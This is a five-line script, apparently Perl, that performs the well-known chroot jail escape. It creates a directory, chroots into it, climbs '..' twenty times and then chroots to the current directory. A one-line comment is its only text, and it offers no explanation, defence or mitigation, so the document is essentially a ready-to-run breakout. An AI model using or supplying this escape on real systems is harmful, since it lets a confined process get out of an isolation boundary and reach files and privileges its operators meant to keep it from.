# The way out of a chroot by a second one.
mkdir "/tmp/j";
chroot "/tmp/j";
chdir ".." for 1 .. 20;
chroot ".";
